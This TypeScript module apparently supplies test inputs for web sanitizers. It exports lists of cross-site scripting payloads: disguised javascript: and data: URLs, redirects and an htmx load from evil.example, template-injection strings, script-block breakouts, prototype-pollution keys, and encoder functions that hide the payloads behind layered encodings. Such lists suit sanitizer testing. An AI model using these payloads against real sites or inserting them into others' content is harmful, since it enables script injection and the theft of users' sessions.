const addresses = [
  'javascript:xss()',
  'JaVaScRiPt:xss()',
  'java\tscript:xss()',
  'java\nscript:xss()',
  ' javascript:xss()',
  '\u0001javascript:xss()',
  'javascript:/*--></script><img src=x onerror=xss()>*/xss()',
  'javascript://evil.example/%0axss()',
  'javascript&colon;xss()',
  '&#106;avascript:xss()',
  '&#x6A;avascript&#58;xss()',
  'vbscript:xss()',
  'data:text/html,<script>xss()</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzKCk8L3NjcmlwdD4=',
  'view-source:javascript:xss()',
  'blob:javascript:xss()',
  '//evil.example/',
  '/\\evil.example/',
  '\\\\evil.example\\',
  'https:evil.example',
  'https://localhost@evil.example/',
];

/** As they are, where an address is expected, and as links and frames. */
export const schemes = [
  ...addresses,
  ...addresses.map((address) => `<a href="${address}">car</a>`),
  ...addresses.slice(0, 8).map((address) => `<iframe src="${address}"></iframe>`),
];

/** Texts that some template language would run. */
export const templates = [
  '{{constructor.constructor("xss()")()}}',
  '{{$on.constructor("xss()")()}}',
  '{{7*7}}',
  '{{{xss()}}}',
  '{{=xss()}}',
  '{%raw%}{{xss()}}{%endraw%}',
  '{% include "x" %}',
  '\u0024{xss()}',
  '#{xss()}',
  '@{xss()}',
  '*{xss()}',
  '[[\u0024{xss()}]]',
  '<%= xss() %>',
  '<? xss() ?>',
  '<x ng-app ng-init="constructor.constructor(\'xss()\')()">',
  '<x x-data x-init="xss()">',
  '<x v-html="\'<img src=x onerror=xss()>\'">',
  '<x hx-get="//evil.example/" hx-trigger="load">',
  '<x data-bind="text:xss()">',
  '<x is="xss-element">',
  'dangerouslySetInnerHTML',
  '{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"xss()"}}',
];

/** Out of a block of script or JSON, or into the objects made of it. */
export const blocks = [
  '</script><script>xss()</script>',
  '</SCRIPT\t><svg onload=xss()>',
  '</script/x><img src=x onerror=xss()>',
  '<!--<script>',
  '<!--<script></script>--><script>xss()</script>',
  '\\u003c/script\\u003e\\u003cscript\\u003exss()',
  '\\x3c/script\\x3e\\x3cscript\\x3exss()',
  '\u2028xss()\u2028',
  '\u2029xss()//',
  '";xss();//',
  "';xss();//",
  '`;xss();//',
  '\\";xss();//',
  "\\';xss();//",
  '"-xss()-"',
  "'-xss()-'",
  '"+xss()+"',
  '"}]}}</script><script>xss()</script>',
  '"});xss();({"a":"',
  '*/xss()/*',
  '\nxss()\n//',
  '-->\nxss()//',
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  '{"__proto__":{"xss":1}}',
  'constructor[prototype][src]=data:,xss()',
  '__proto__[innerHTML]=<img src=x onerror=xss()>',
];

const plain = ['<script>xss()</script>', '"><img src=x onerror=xss()>', "'-xss()-'"];

const everyCharacter = (text: string, spell: (code: number) => string) =>
  [...text].map((character) => spell(character.codePointAt(0)!)).join('');
const hex = (code: number, digits: number) => code.toString(16).padStart(digits, '0');
const percent = (text: string) => everyCharacter(text, (code) => `%${hex(code, 2)}`);
const marks = /[<>"'/]/g;

const spellings: ((text: string) => string)[] = [
  encodeURIComponent,
  percent,
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => percent(text).replaceAll('%', '%25'),
  (text) => text.replaceAll(marks, (mark) => `&#${mark.charCodeAt(0)};`),
  (text) => text.replaceAll(marks, (mark) => `&#x${hex(mark.charCodeAt(0), 2)}`),
  (text) => text.replaceAll(marks, (mark) => `&#${String(mark.charCodeAt(0)).padStart(7, '0')}`),
  (text) => text.replaceAll(marks, (mark) => `\\x${hex(mark.charCodeAt(0), 2)}`),
  (text) => text.replaceAll(marks, (mark) => `\\u${hex(mark.charCodeAt(0), 4)}`),
  (text) => text.replaceAll('<', '%c0%bc').replaceAll('>', '%c0%be'),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll('<', '%u003c').replaceAll('>', '%u003e'),
  (text) => btoa(text),
];

/** Spelled so that somebody might decode them once too often. */
export const encoded = plain.flatMap((text) => spellings.map((spell) => spell(text)));
